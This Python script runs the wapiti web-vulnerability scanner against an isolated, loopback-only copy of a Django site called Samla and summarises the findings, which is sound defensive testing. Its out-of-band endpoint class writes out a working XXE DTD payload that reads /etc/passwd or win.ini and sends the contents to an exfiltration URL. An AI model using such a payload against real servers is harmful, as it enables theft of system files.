"""`make scan`: attack Samla as an outsider would, with Debian's wapiti.

Serves a throw-away copy of the site (temporary SQLite database with the demo
content, production settings) with gunicorn over TLS on 127.0.0.1, runs
wapiti's attack modules against https://127.0.0.1:<port>/sv/ (plus the admin
sign-in, the API and the sitemap), writes wapiti's JSON report to var/scan/,
prints the findings by category and severity and exits non-zero when any of
them is above informational.

Everything runs in a private network namespace that has only a loopback
interface (`unshare --net`), so neither the scanner nor the site can reach
another address, whatever a payload or a redirect says. Inside it the script
also serves two stand-ins on loopback: an SMTP sink (production sends mail
over SMTP; the sink counts what the scan made the site send) and wapiti's
out-of-band "endpoint" (the SSRF and XXE modules detect a vulnerability when
the target fetches a URL on it), so those modules really test something
instead of calling wapiti's public server.

Environment: SCAN_MAX_SCAN_TIME (crawl seconds, default 120),
SCAN_MAX_ATTACK_TIME (seconds per module, default 90; 0 for no limit),
SCAN_HARD_LIMIT (seconds for the whole wapiti run, default 780, or 7200
without a module limit), SCAN_MODULES.
"""

import collections
import datetime
import fcntl
import http.server
import json
import os
import re
import shutil
import signal
import socket
import socketserver
import sqlite3
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import urllib.request
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
REPORT_DIR = ROOT / "var" / "scan"
IN_NETNS = "SAMLA_SCAN_IN_NETNS"
# Attack modules of wapiti 3.0.4 that apply to a Django site (`wapiti --list-modules`).
# Left out: nikto and wapp (they download their databases from GitHub), shellshock
# (bash CGI scripts only), brute_login_form (guessing passwords is what
# django-axes locks out after five tries; tests/home cover it), buster (a
# word-list of PHP/ASP paths that Wagtail's catch-all answers with 404s).
MODULES = os.environ.get(
    "SCAN_MODULES",
    "xss,permanentxss,sql,blindsql,exec,file,crlf,redirect,ssrf,xxe,csrf,"
    "htaccess,backup,methods,http_headers,cookieflags,csp",
)
MAX_SCAN_TIME = os.environ.get("SCAN_MAX_SCAN_TIME", "120")
MAX_ATTACK_TIME = os.environ.get("SCAN_MAX_ATTACK_TIME", "90")
# wapiti checks --max-attack-time only when a module hands back a result, so
# a hard limit on the whole wapiti run as well.
HARD_LIMIT_SECONDS = int(
    os.environ.get("SCAN_HARD_LIMIT", "780" if float(MAX_ATTACK_TIME) else "7200")
)
# Runs Debian's wapiti 3.0.4 with two corrections, and otherwise unchanged:
# - any --exclude crashes it on Python 3.11: wildcard_translate() puts the
#   global flags "(?ms)" at the end of the regular expression; here they come first;
# - its csrf module knows a list of token field names without Django's
#   "csrfmiddlewaretoken", so it reported every Django form as "Lack of anti
#   CSRF token" without trying it. With the name added it does its real test:
#   it sends the form with the token replaced and expects another answer
#   (Django's 403), and checks the token's length and entropy.
WAPITI_LAUNCHER = """
import re, sys
import wapitiCore.net.crawler as crawler
from wapitiCore.attack.mod_csrf import mod_csrf
def wildcard_translate(pattern):
    return re.compile("(?ms)" + ".*".join(map(re.escape, pattern.split("*"))) + r"\\Z")
crawler.wildcard_translate = wildcard_translate
mod_csrf.TOKEN_FORM_STRINGS = [*mod_csrf.TOKEN_FORM_STRINGS, "csrfmiddlewaretoken"]
from wapitiCore.main.wapiti import wapiti_main
sys.argv[0] = "wapiti"
sys.exit(wapiti_main())
"""
LEVELS = {0: "info", 1: "low", 2: "medium", 3: "high", 4: "critical"}
# Every other language tree runs the same views and templates as /sv/.
OTHER_LANGUAGES = ["en", "ar", "fa", "prs", "so", "ti", "uk"]


def log(message):
    print(f"[scan] {message}", flush=True)


# --- outside the namespace -------------------------------------------------


def ensure_wapiti():
    if shutil.which("wapiti"):
        return
    if os.geteuid() != 0:
        sys.exit("wapiti is missing: install Debian's package as root (apt-get install wapiti).")
    log("installing Debian's wapiti")
    apt_env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
    subprocess.run(["apt-get", "update", "-qq"], check=True, env=apt_env)
    subprocess.run(["apt-get", "install", "-y", "-qq", "wapiti"], check=True, env=apt_env)


def netns_prefix():
    """The command that starts a process in a new network namespace, or None."""
    if not shutil.which("unshare"):
        return None
    for prefix in (["unshare", "--net"], ["unshare", "--net", "--map-root-user"]):
        probe = subprocess.run([*prefix, "true"], capture_output=True)
        if probe.returncode == 0:
            return prefix
    return None


def run_in_netns():
    prefix = netns_prefix()
    if prefix is None:
        sys.exit(
            "Cannot create a private network namespace (unshare --net): run `make scan` as "
            "root or where user namespaces are allowed, so the scan cannot leave loopback."
        )
    child = subprocess.Popen(
        [*prefix, sys.executable, __file__, *sys.argv[1:]], env={**os.environ, IN_NETNS: "1"}
    )

    def forward(signum, _frame):
        child.send_signal(signum)

    signal.signal(signal.SIGTERM, forward)
    signal.signal(signal.SIGINT, forward)
    return child.wait()


# --- inside the namespace --------------------------------------------------


def loopback_up():
    """`ip link set lo up`, without needing iproute2."""
    siocgifflags, siocsifflags, iff_up = 0x8913, 0x8914, 0x1
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        request = struct.pack("16sh", b"lo", 0)
        flags = struct.unpack("16sh", fcntl.ioctl(sock, siocgifflags, request))[1]
        fcntl.ioctl(sock, siocsifflags, struct.pack("16sh", b"lo", flags | iff_up))


def free_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class ThreadingServer(socketserver.ThreadingMixIn, socketserver.TCPServer):
    daemon_threads = True
    allow_reuse_address = True


class SmtpSink(socketserver.StreamRequestHandler):
    """Just enough SMTP for Django's backend; counts the messages."""

    messages = 0

    def reply(self, line):
        self.wfile.write(line.encode() + b"\r\n")

    def handle(self):
        self.reply("220 scan-sink ESMTP")
        while line := self.rfile.readline():
            command = line.decode("latin-1").strip().upper()
            if command.startswith(("EHLO", "HELO")):
                self.reply("250 scan-sink")
            elif command == "DATA":
                self.reply("354 end with .")
                while (data := self.rfile.readline()) and data.rstrip(b"\r\n") != b".":
                    pass
                SmtpSink.messages += 1
                self.reply("250 queued")
            elif command == "QUIT":
                self.reply("221 bye")
                return
            else:
                self.reply("250 ok")


class OutOfBandEndpoint(http.server.BaseHTTPRequestHandler):
    """wapiti's endpoint protocol (what wapiti3.ovh does), on loopback: the
    target fetching /ssrf/<session>/<path id>/<hex parameter>/ or the XXE DTDs
    is recorded, and get_ssrf.php / get_xxe.php hand the records to wapiti."""

    hits = {"ssrf": {}, "xxe": {}}
    base_url = ""

    def log_message(self, *args):
        pass

    def record(self, kind, session, path_id, hex_param, extra):
        entry = {
            "url": self.path,
            "date": datetime.datetime.now().isoformat(),
            "ip": self.client_address[0],
            "method": self.command,
            "size": int(self.headers.get("Content-Length") or 0),
            **extra,
        }
        by_path = self.hits[kind].setdefault(session, {}).setdefault(path_id, {})
        by_path.setdefault(hex_param, []).append(entry)

    def answer(self, body, content_type="text/plain"):
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):  # noqa: N802
        url = urllib.parse.urlsplit(self.path)
        parts = [p for p in url.path.split("/") if p]
        query = urllib.parse.parse_qs(url.query)
        if parts and parts[0] in ("get_ssrf.php", "get_xxe.php"):
            kind = "ssrf" if parts[0] == "get_ssrf.php" else "xxe"
            session = query.get("id", [""])[0]
            return self.answer(json.dumps(self.hits[kind].get(session, {})), "application/json")
        if len(parts) >= 4 and parts[0] == "ssrf":
            self.record("ssrf", parts[1], parts[2], parts[3], {})
            return self.answer("ssrf")
        if len(parts) >= 5 and parts[0] == "dtd":
            session, path_id, hex_param, name = parts[1:5]
            self.record("xxe", session, path_id, hex_param, {"payload": name})
            exfiltrate = f"{self.base_url}xoxo/{session}/{path_id}/{hex_param}/"
            target = "file:///C:/Windows/win.ini" if "windows" in name else "file:///etc/passwd"
            dtd = (
                f'<!ENTITY % payload SYSTEM "{target}">\n'
                f"<!ENTITY % intern \"<!ENTITY &#37; trick SYSTEM '{exfiltrate}%payload;'>\">\n"
            )
            return self.answer(dtd, "application/xml-dtd")
        if len(parts) >= 4 and parts[0] == "xoxo":
            self.record("xxe", parts[1], parts[2], parts[3], {"payload": "exfiltration"})
            return self.answer("ok")
        if parts and parts[0].startswith("e.php"):
            # What a remote inclusion would pull in; the file module looks for it.
            return self.answer("w4p1t1_cleartext")
        return self.answer("")

    do_POST = do_GET  # noqa: N815


def serve(server):
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    return server


def make_certificate(workdir):
    cert, key = workdir / "cert.pem", workdir / "key.pem"
    subprocess.run(
        [
            "openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
            "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1,DNS:localhost",
            "-keyout", str(key), "-out", str(cert),
        ],
        check=True,
        capture_output=True,
    )  # fmt: skip
    return cert, key


def manage(env, *args):
    subprocess.run([sys.executable, "manage.py", *args], cwd=ROOT, env=env, check=True)


def wait_until_up(url, server):
    context = ssl._create_unverified_context()  # noqa: S323  (our own throw-away certificate)
    for _ in range(150):
        if server.poll() is not None:
            sys.exit("gunicorn stopped before it answered")
        try:
            urllib.request.urlopen(url, timeout=2, context=context)  # noqa: S310
            return
        except OSError:
            time.sleep(0.2)
    sys.exit(f"{url} never answered")


def wapiti_python():
    """The interpreter of the installed wapiti script (Debian's python3)."""
    first_line = Path(shutil.which("wapiti")).read_text().splitlines()[0]
    return first_line[2:].strip() if first_line.startswith("#!") else "/usr/bin/python3"


def wapiti_version():
    output = subprocess.run(["wapiti", "--version"], capture_output=True, text=True).stdout
    match = re.search(r"Wapiti[- ](\d[\w.]*)", output)
    return match.group(1) if match else "unknown"


def run_wapiti(command, log_path):
    """Runs wapiti with its output in log_path, each line stamped with the
    seconds since the start; returns the total and the seconds per phase."""
    started = time.monotonic()
    phases = {}
    phase, phase_started = "crawl", started
    process = subprocess.Popen(
        command,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        stdin=subprocess.DEVNULL,
        text=True,
        errors="replace",
    )
    timer = threading.Timer(HARD_LIMIT_SECONDS, process.kill)
    timer.start()
    try:
        with open(log_path, "w") as log_file:
            for line in process.stdout:
                now = time.monotonic()
                log_file.write(f"[{now - started:6.1f}s] {line}")
                module = re.match(r"\[\*\] Launching module (\w+)", line)
                if module or line.startswith("[*] Wapiti found"):
                    phases[phase] = now - phase_started
                    phase, phase_started = (module.group(1) if module else "load"), now
        returncode = process.wait()
    finally:
        timer.cancel()
        if process.poll() is None:
            process.kill()
    phases[phase] = time.monotonic() - phase_started
    phases.pop("load", None)
    if time.monotonic() - started >= HARD_LIMIT_SECONDS:
        sys.exit(f"wapiti ran past the hard limit of {HARD_LIMIT_SECONDS} s and was stopped")
    return time.monotonic() - started, phases, returncode


def session_figures(session_dir):
    """From wapiti's session database: how many URLs and forms it crawled, and
    how many of them each module finished attacking."""
    for database in Path(session_dir).glob("*.db"):
        with sqlite3.connect(database) as connection:
            crawled = connection.execute("SELECT COUNT(*) FROM paths WHERE evil = 0").fetchone()[0]
            attacked = dict(
                connection.execute(
                    "SELECT module_name, COUNT(DISTINCT path_id) FROM attack_log GROUP BY module_name"
                ).fetchall()
            )
            return crawled, attacked
    return None, {}


def access_log_summary(path):
    statuses = collections.Counter()
    requests = 0
    for line in Path(path).read_text(errors="replace").splitlines():
        requests += 1
        statuses[line.rsplit(" ", 1)[-1]] += 1
    return requests, statuses


def summarise(report):
    """Every vulnerability, anomaly and additional finding as (kind, category, level, entry)."""
    findings = []
    for kind in ("vulnerabilities", "anomalies", "additionals"):
        for category, entries in (report.get(kind) or {}).items():
            for entry in entries:
                findings.append((kind, category, int(entry.get("level", 0)), entry))
    return findings


def scan():
    loopback_up()
    REPORT_DIR.mkdir(parents=True, exist_ok=True)
    workdir = Path(tempfile.mkdtemp(prefix="samla-scan-"))
    gunicorn = None
    try:
        smtp = serve(ThreadingServer(("127.0.0.1", free_port()), SmtpSink))
        endpoint = serve(ThreadingServer(("127.0.0.1", free_port()), OutOfBandEndpoint))
        endpoint_url = f"http://127.0.0.1:{endpoint.server_address[1]}/"
        OutOfBandEndpoint.base_url = endpoint_url
        port = free_port()
        base = f"https://127.0.0.1:{port}"
        env = {
            **os.environ,
            "DJANGO_SETTINGS_MODULE": "samla.settings.production",
            "DJANGO_SECRET_KEY": "scan-only-throw-away-" + os.urandom(24).hex(),
            "DJANGO_ALLOWED_HOSTS": "127.0.0.1,localhost",
            # gunicorn itself speaks TLS here, so every request is already https.
            "DJANGO_SECURE_SSL_REDIRECT": "0",
            "DATABASE_URL": f"sqlite:///{workdir / 'scan.sqlite3'}",
            "DJANGO_STATIC_ROOT": str(workdir / "static"),
            "DJANGO_MEDIA_ROOT": str(workdir / "media"),
            "EMAIL_URL": f"smtp://127.0.0.1:{smtp.server_address[1]}",
            "SAMLA_SITE_URL": base,
        }
        for name in ("REDIS_URL", "DJANGO_DEBUG"):  # production as deployed, on its own
            env.pop(name, None)
        started = time.monotonic()
        manage(env, "migrate", "--no-input", "-v", "0")
        manage(env, "collectstatic", "--no-input", "-v", "0")
        manage(env, "load_demo")
        cert, key = make_certificate(workdir)
        stamp = time.strftime("%Y%m%d-%H%M%S")
        access_log = REPORT_DIR / f"gunicorn-access-{stamp}.log"
        server_log = open(REPORT_DIR / f"gunicorn-{stamp}.log", "w")  # noqa: SIM115
        gunicorn = subprocess.Popen(
            [
                str(Path(sys.executable).with_name("gunicorn")),
                "samla.wsgi",
                "--bind", f"127.0.0.1:{port}",
                "--workers", "3",
                "--certfile", str(cert),
                "--keyfile", str(key),
                "--access-logfile", str(access_log),
                "--access-logformat", '%(m)s %(U)s?%(q)s %(s)s',
                "--log-level", "warning",
            ],
            cwd=ROOT,
            env=env,
            stdout=server_log,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )  # fmt: skip
        wait_until_up(f"{base}/sv/", gunicorn)
        access_log.write_text("")  # count only the scanner's requests
        setup_seconds = time.monotonic() - started

        report_path = REPORT_DIR / f"wapiti-{stamp}.json"
        session_dir = workdir / "wapiti-session"
        excluded = [f"{base}/{code}/*" for code in OTHER_LANGUAGES]
        command = [
            wapiti_python(),
            "-c",
            WAPITI_LAUNCHER,
            "--url", f"{base}/sv/",
            # Links out of /sv/ (admin sign-in, API, documents, sitemap) are in scope too.
            "--scope", "domain",
            "--start", f"{base}/admin/login/",
            # The API's query parameters are injection points; nothing links to them.
            "--start", f"{base}/api/v2/pages/?type=stories.StoryPage&fields=title&order=title"
            "&search=skola&locale=sv&limit=5&offset=0",
            "--start", f"{base}/api/v2/pages/find/?html_path=/sv/",
            "--start", f"{base}/api/v2/images/?fields=title&limit=5",
            "--start", f"{base}/api/v2/documents/?fields=title&limit=5",
            "--start", f"{base}/sitemap.xml",
            *[arg for url in excluded for arg in ("--exclude", url)],
            "--module", MODULES,
            "--max-scan-time", MAX_SCAN_TIME,
            "--max-attack-time", MAX_ATTACK_TIME,
            # The story library's filter links combine into thousands of
            # addresses for one view; a dozen per folder covers every view.
            "--max-files-per-dir", "12",
            # Django's CsrfViewMiddleware checks the token before any view
            # runs; the csrf module tests it (see WAPITI_LAUNCHER).
            "--skip", "csrfmiddlewaretoken",
            "--timeout", "10",
            "--endpoint", endpoint_url,
            "--store-session", str(session_dir),
            "--store-config", str(workdir / "wapiti-config"),
            "--flush-session",
            "--no-bugreport",
            "--verify-ssl", "0",
            "--format", "json",
            "--output", str(report_path),
            "--verbose", "1",
        ]  # fmt: skip
        log(f"wapiti {wapiti_version()} against {base}/sv/ with modules {MODULES}")
        wapiti_log = REPORT_DIR / f"wapiti-{stamp}.log"
        scan_seconds, module_seconds, returncode = run_wapiti(command, wapiti_log)
        if returncode != 0 or not report_path.exists():
            print(wapiti_log.read_text()[-3000:])
            sys.exit(f"wapiti failed (exit {returncode}); its output is in {wapiti_log}")

        report = json.loads(report_path.read_text())
        findings = summarise(report)
        requests, statuses = access_log_summary(access_log)
        crawled, attacked = session_figures(session_dir)
        print()
        print(f"wapiti {wapiti_version()}, modules: {MODULES}")
        print(
            f"setup {setup_seconds:.0f} s, scan {scan_seconds:.0f} s; "
            f"{crawled} URLs and forms crawled; "
            f"{requests} requests to the site "
            f"({', '.join(f'{count} x {status}' for status, count in sorted(statuses.items()))}); "
            f"{SmtpSink.messages} e-mails sent"
        )
        print(
            "seconds per phase: "
            + ", ".join(f"{name} {seconds:.0f}" for name, seconds in module_seconds.items())
        )
        cut_short = re.findall(
            r"Max attack time was reached for module (\w+)", wapiti_log.read_text()
        )
        if cut_short:
            print(
                f"stopped by --max-attack-time {MAX_ATTACK_TIME} after attacking: "
                + ", ".join(f"{name} {attacked.get(name, 0)}" for name in cut_short)
                + f" of the {crawled} URLs and forms"
            )
        by_level = collections.Counter(LEVELS.get(level, level) for _, _, level, _ in findings)
        print(
            "findings by severity: "
            + (
                ", ".join(f"{by_level[name]} {name}" for name in LEVELS.values() if by_level[name])
                or "none"
            )
        )
        by_category = collections.Counter(
            (kind, category, level) for kind, category, level, _ in findings
        )
        for (kind, category, level), count in sorted(
            by_category.items(), key=lambda item: -item[0][2]
        ):
            print(f"  {LEVELS.get(level, level):8} {count:3} x {category} ({kind})")
        for _kind, category, level, entry in findings:
            if level > 0:
                print(
                    f"  - [{LEVELS.get(level, level)}] {category}: {entry.get('method', '')} "
                    f"{entry.get('path', '')} {entry.get('parameter') or ''}: {entry.get('info', '')}"
                )
        print(f"report: {report_path.relative_to(ROOT)} (log: {wapiti_log.relative_to(ROOT)})")
        above_info = sum(1 for _, _, level, _ in findings if level > 0)
        if above_info:
            print(f"FAILED: {above_info} finding(s) above informational")
            return 1
        print("OK: no finding above informational")
        return 0
    finally:
        if gunicorn is not None and gunicorn.poll() is None:
            os.killpg(gunicorn.pid, signal.SIGTERM)
            try:
                gunicorn.wait(timeout=15)
            except subprocess.TimeoutExpired:
                os.killpg(gunicorn.pid, signal.SIGKILL)
        shutil.rmtree(workdir, ignore_errors=True)


def main():
    if os.environ.get(IN_NETNS) == "1":
        # SIGTERM unwinds through scan()'s finally, which stops gunicorn.
        signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
        sys.exit(scan())
    ensure_wapiti()
    if not shutil.which("openssl"):
        sys.exit("openssl is missing: install Debian's package openssl.")
    sys.exit(run_in_netns())


if __name__ == "__main__":
    main()
